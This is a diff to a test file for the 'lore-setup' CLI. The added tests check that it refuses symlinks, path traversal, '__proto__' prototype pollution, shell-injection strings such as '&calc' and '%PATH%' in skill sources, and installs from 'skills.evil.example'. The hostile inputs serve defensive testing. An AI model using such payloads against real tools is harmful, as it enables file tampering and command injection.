@@ -1,9 +1,11 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { spawn } from "node:child_process";
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
+import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, realpathSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
 import path from "node:path";
-import { fileURLToPath } from "node:url";
+import { fileURLToPath, pathToFileURL } from "node:url";
 import { startServer, type TestServer } from "./server";
 
 /**
@@ -35,7 +37,7 @@ async function api(method: string, p: string, body?: unknown, token?: string) {
 }
 
 async function run(cwd: string, args: string[], extraEnv: Record<string, string> = {}) {
-  const home = tmp("lore-setup-home-");
+  const home = extraEnv.HOME ?? tmp("lore-setup-home-");
   const log = path.join(home, "blocked.log");
   const child = spawn(process.execPath, ["--import", GUARD, CLI, ...args], {
     cwd,
@@ -66,12 +68,13 @@ async function run(cwd: string, args: string[], extraEnv: Record<string, string>
   return { code, out, blocked };
 }
 
-/** Every file under a folder with its bytes (to prove a run changed nothing). */
+/** Every file under a folder with its bytes (to prove a run changed nothing); a link is shown as its target. */
 function snapshot(dir: string, base = dir): Record<string, string> {
   const out: Record<string, string> = {};
   for (const f of readdirSync(dir)) {
     const p = path.join(dir, f);
-    if (statSync(p).isDirectory()) Object.assign(out, snapshot(p, base));
+    if (lstatSync(p).isSymbolicLink()) out[path.relative(base, p)] = `-> ${readlinkSync(p)}`;
+    else if (statSync(p).isDirectory()) Object.assign(out, snapshot(p, base));
     else out[path.relative(base, p)] = readFileSync(p).toString("base64");
   }
   return out;
@@ -178,6 +181,154 @@ describe("npx lore-setup", () => {
     const bad = await run(dir, ["--harness", "codex", "--yes", "--no-skills"]);
     expect(bad.code).toBe(1);
     expect(bad.out).toMatch(/Lore answered 400: AGENTS\.md has 2 service blocks/);
+  });
+
+  it("a block codex wrote into AGENTS.md does not stop claude-code and gemini from getting their own file's section", async () => {
+    const dir = tmp("lore-setup-cross-");
+    writeFileSync(path.join(dir, "AGENTS.md"), "# Agents\n");
+    writeFileSync(path.join(dir, "GEMINI.md"), "# Gemini\n");
+    expect((await run(dir, ["--harness", "codex", "--yes", "--no-skills"])).code).toBe(0);
+    const agentsMd = readFileSync(path.join(dir, "AGENTS.md"), "utf8");
+    expect(agentsMd).toMatch(/^# Agents\n\n<!-- service:begin v1 /);
+
+    const claude = await run(dir, ["--harness", "claude-code", "--yes", "--no-skills"]);
+    expect(claude.code, claude.out).toBe(0);
+    expect(claude.out).not.toContain("AGENTS.md: already up to date");
+    expect(claude.out).toContain("wrote CLAUDE.md");
+    expect(readFileSync(path.join(dir, "CLAUDE.md"), "utf8")).toMatch(/^<!-- service:begin v1 updated=.*\n## Lore\n/);
+    const gemini = await run(dir, ["--harness", "gemini", "--yes", "--no-skills"]);
+    expect(gemini.code, gemini.out).toBe(0);
+    expect(readFileSync(path.join(dir, "GEMINI.md"), "utf8")).toMatch(/^# Gemini\n\n<!-- service:begin v1 /);
+    expect(readFileSync(path.join(dir, "AGENTS.md"), "utf8")).toBe(agentsMd);
+    expect((await run(dir, ["--harness", "claude-code", "--yes", "--no-skills"])).out).toContain("CLAUDE.md: already up to date");
+  });
+
+  it("never reads or writes through a symbolic link: a linked CLAUDE.md, .mcp.json or .claude folder stays untouched, and the CLI says why", async () => {
+    const dir = sampleProject();
+    const outside = tmp("lore-setup-outside-");
+    writeFileSync(path.join(outside, ".bashrc"), "alias ll='ls -l'\nexport OUTSIDE_MARKER=not-for-lore\n");
+    writeFileSync(path.join(outside, "settings.json"), '{"outside": "OUTSIDE_MARKER"}\n');
+    mkdirSync(path.join(outside, "claude"));
+    writeFileSync(path.join(outside, "claude", "CLAUDE.md"), "# OUTSIDE_MARKER\n");
+    rmSync(path.join(dir, "CLAUDE.md"));
+    symlinkSync(path.join(outside, ".bashrc"), path.join(dir, "CLAUDE.md"));
+    symlinkSync(path.join(outside, "settings.json"), path.join(dir, ".mcp.json"));
+    symlinkSync(path.join(outside, "claude"), path.join(dir, ".claude"));
+    // A lockfile linked out of the project is not read either (its lines would go to Lore as a stack).
+    rmSync(path.join(dir, "requirements.txt"));
+    writeFileSync(path.join(outside, "pins.txt"), "outside-marker-pkg==1.0\n");
+    symlinkSync(path.join(outside, "pins.txt"), path.join(dir, "requirements.txt"));
+    const outsideBefore = snapshot(outside);
+    const projectBefore = snapshot(dir);
+
+    const r = await run(dir, ["--harness", "claude-code", "--yes", "--no-skills"]);
+    expect(r.code, r.out).toBe(0);
+    expect(snapshot(outside)).toEqual(outsideBefore);
+    expect(snapshot(dir)).toEqual(projectBefore);
+    expect(lstatSync(path.join(dir, "CLAUDE.md")).isSymbolicLink()).toBe(true);
+    // Nothing from behind a link reached the output (so neither the diff nor advise saw it).
+    expect(r.out).not.toMatch(/OUTSIDE_MARKER|outside-marker/i);
+    expect(r.out).toContain("not read    CLAUDE.md: skipped, CLAUDE.md is a symbolic link; lore-setup never reads or writes through one");
+    expect(r.out).toContain("not read    .claude/CLAUDE.md: skipped, .claude is a symbolic link");
+    expect(r.out).toContain("not read    requirements.txt: skipped, requirements.txt is a symbolic link");
+    expect(r.out).toMatch(/stack {7}6 dependencies from package-lock\.json, go\.mod, Cargo\.lock/);
+    expect(r.out).toMatch(/# Create CLAUDE\.md \(not applied: CLAUDE\.md is a symbolic link; lore-setup never reads or writes through one\)\n {4}## Lore/);
+    expect(r.out).toContain("(not applied: .mcp.json is a symbolic link; lore-setup never reads or writes through one)");
+    expect(r.out).toContain("Nothing lore-setup can change by itself");
+  });
+
+  it("treats advise's paths and commands as hostile: nothing out of the project, ~/ only with --user (never by the server's scope), no foreign or shell-unsafe skill source", async () => {
+    // A Lore that answers with every path trick: the CLI alone decides where a file may go.
+    const proposal = (file: string, scope: string, content = "HOSTILE\n") => ({ id: `instructions:${file}`, kind: "instructions", title: `Write ${file}`, reason: "r", action: "create", file, scope, format: "markdown", content, snippet: content, command: null, merge: null, literalKey: false, notes: [] });
+    const skill = (command: string) => ({ id: `skill:${command}`, kind: "skill", title: `Skill ${command}`, reason: "r", action: "run", file: ".claude/skills/x", scope: "project", format: null, content: null, snippet: null, command, merge: null, literalKey: false, notes: [] });
+    let origin = "";
+    const proposals = () => [
+      proposal("../../escaped.md", "project"),
+      proposal("sub/../../escaped2.md", "project"),
+      proposal("/tmp/lore-setup-absolute-escape.md", "project"),
+      proposal("~/planted.md", "project"),
+      proposal("~/../home-escape.md", "user"),
+      proposal("inside.md", "user", "inside\n"),
+      proposal("~/.config/ok.md", "user", "ok\n"),
+      { ...proposal("cfg.json", "project"), kind: "mcp_server", action: "merge", format: "json", merge: { path: ["__proto__", "polluted"], value: true } },
+      skill(`npx skills add ${origin}&calc --skill lore -a claude-code -y`),
+      skill("npx skills add https://skills.evil.example --skill lore -a claude-code -y"),
+      skill(`npx skills add ${origin} --skill lore -a hermes-agent -g -y`),
+    ];
+    const fake: Server = createServer((req, res) => {
+      res.setHeader("content-type", "application/json");
+      res.end(JSON.stringify({ harness: "claude-code", name: "Claude Code", asOfDate: "2026-01-01", mcpUrl: null, proposals: proposals(), notes: [] }));
+    });
+    await new Promise<void>((r) => fake.listen(0, "127.0.0.1", r));
+    origin = `http://127.0.0.1:${(fake.address() as AddressInfo).port}`;
+    try {
+      const base = tmp("lore-setup-hostile-");
+      const dir = path.join(base, "a", "b", "project");
+      mkdirSync(dir, { recursive: true });
+      writeFileSync(path.join(dir, "cfg.json"), "{}\n");
+      const home = path.join(base, "home");
+      mkdirSync(home);
+
+      const plain = await run(dir, ["--harness", "claude-code", "--yes", "--url", origin], { HOME: home });
+      expect(plain.code, plain.out).toBe(0);
+      // What was written: inside.md in the project (scope "user" from the server changes nothing), no more.
+      expect(readdirSync(path.join(base, "a")).sort()).toEqual(["b"]);
+      expect(readdirSync(path.join(base, "a", "b")).sort()).toEqual(["project"]);
+      expect(readdirSync(home).filter((f) => f !== "blocked.log")).toEqual([]);
+      expect(readdirSync(dir).sort()).toEqual(["cfg.json", "inside.md"]);
+      expect(readFileSync(path.join(dir, "inside.md"), "utf8")).toBe("inside\n");
+      expect(readFileSync(path.join(dir, "cfg.json"), "utf8")).toBe("{}\n");
+      expect(plain.out).toContain("(not applied: ../../escaped.md is outside ");
+      expect(plain.out).toContain("(not applied: sub/../../escaped2.md is outside ");
+      expect(plain.out).toContain("(not applied: /tmp/lore-setup-absolute-escape.md is not a path inside ");
+      expect(plain.out).toContain("(not applied: ~/planted.md is a user-level file (run again with --user");
+      expect(plain.out).toContain("(not applied: ~/.config/ok.md is a user-level file");
+      expect(plain.out).toContain("# Write cfg.json (not applied: the proposal's content or key path is not usable)");
+      expect(plain.out).toContain("(not applied: this harness installs skills by hand)");
+      expect(plain.out).toContain(`(not applied: it installs from https://skills.evil.example, not from Lore at ${origin})`);
+      expect(plain.out).toContain("(not applied: it installs into your user-level skills folder (run again with --user");
+      expect(plain.out).toContain("wrote inside.md");
+      expect(plain.out).not.toMatch(/^installed /m);
+
+      const user = await run(dir, ["--harness", "claude-code", "--yes", "--user", "--no-skills", "--url", origin], { HOME: home });
+      expect(user.code, user.out).toBe(0);
+      expect(user.out).toContain("(not applied: ~/../home-escape.md is outside ");
+      expect(user.out).toContain("wrote ~/planted.md");
+      expect(user.out).toContain("wrote ~/.config/ok.md");
+      expect(readFileSync(path.join(home, ".config", "ok.md"), "utf8")).toBe("ok\n");
+      // Nothing landed anywhere but the project and the home folder.
+      expect(readdirSync(base).sort()).toEqual(["a", "home"]);
+      expect(readdirSync(path.join(base, "a")).sort()).toEqual(["b"]);
+      expect(readdirSync(path.join(base, "a", "b")).sort()).toEqual(["project"]);
+      expect(existsSync("/tmp/lore-setup-absolute-escape.md")).toBe(false);
+    } finally {
+      await new Promise((r) => fake.close(r));
+    }
+  });
+
+  it("the guards the CLI runs: locate keeps paths in their root and off links; the skills command on Windows goes through the shell only with safe arguments", async () => {
+    const cli: any = await import(pathToFileURL(CLI).href);
+    const root = tmp("lore-setup-locate-");
+    mkdirSync(path.join(root, "real"));
+    symlinkSync(tmpdir(), path.join(root, "linked"));
+    expect(cli.locate(root, "real/new/file.md")).toEqual({ target: path.join(realpathSync(root), "real", "new", "file.md") });
+    for (const bad of ["../x", "real/../../x", "/etc/passwd", "~/x", "C:\\x", "..\\x", "", "a\u0000b", "."]) expect(cli.locate(root, bad).refused, bad).toBeTruthy();
+    expect(cli.locate(root, "linked/x.md")).toMatchObject({ refused: "linked is a symbolic link; lore-setup never reads or writes through one", link: true });
+    expect(cli.locate(root, "x.md", "~/x.md")).toEqual({ target: path.join(realpathSync(root), "x.md") });
+
+    const r = { source: "https://lore.example.com", skill: "hono-routes", agent: "claude-code", global: false };
+    expect(cli.skillsSpawn(r, { platform: "linux", local: "" })).toEqual({ cmd: "npx", args: ["--yes", "skills", "add", "https://lore.example.com", "--skill", "hono-routes", "-a", "claude-code", "-y"], shell: false });
+    expect(cli.skillsSpawn({ ...r, global: true }, { platform: "win32", local: "" })).toEqual({ cmd: "npx.cmd --yes skills add https://lore.example.com --skill hono-routes -a claude-code -g -y", args: [], shell: true });
+    expect(cli.skillsSpawn(r, { platform: "win32", local: "C:\\skills\\cli.mjs", execPath: "node.exe" })).toEqual({ cmd: "node.exe", args: ["C:\\skills\\cli.mjs", "add", "https://lore.example.com", "--skill", "hono-routes", "-a", "claude-code", "-y"], shell: false });
+    for (const source of ["https://x&calc", "https://x|y", "https://x%PATH%", 'https://x"', "https://x^y", "https://x y", "https://x(y)", "https://x;y", "https://x<y", "https://x!y"]) {
+      expect(() => cli.skillsSpawn({ ...r, source }, { platform: "win32", local: "" }), source).toThrow(/refusing to run the skills CLI/);
+    }
+    // The command shape the plan accepts cannot carry any of them to begin with.
+    const advice = (command: string) => ({ proposals: [{ id: "s", kind: "skill", action: "run", command, notes: [] }] });
+    for (const source of ["https://x&calc", "https://x%PATH%", "https://x^y", "https://x\"y"]) {
+      expect(cli.plan(root, advice(`npx skills add ${source} --skill a -a b -y`), { skills: true }).runs, source).toEqual([]);
+    }
+    expect(cli.plan(root, advice("npx skills add https://lore.example.com --skill a -a b -y"), { skills: true, lore: "https://lore.example.com" }).runs).toHaveLength(1);
   });
 
   it("a refused key and a missing key are one clear line each, without the key", async () => {
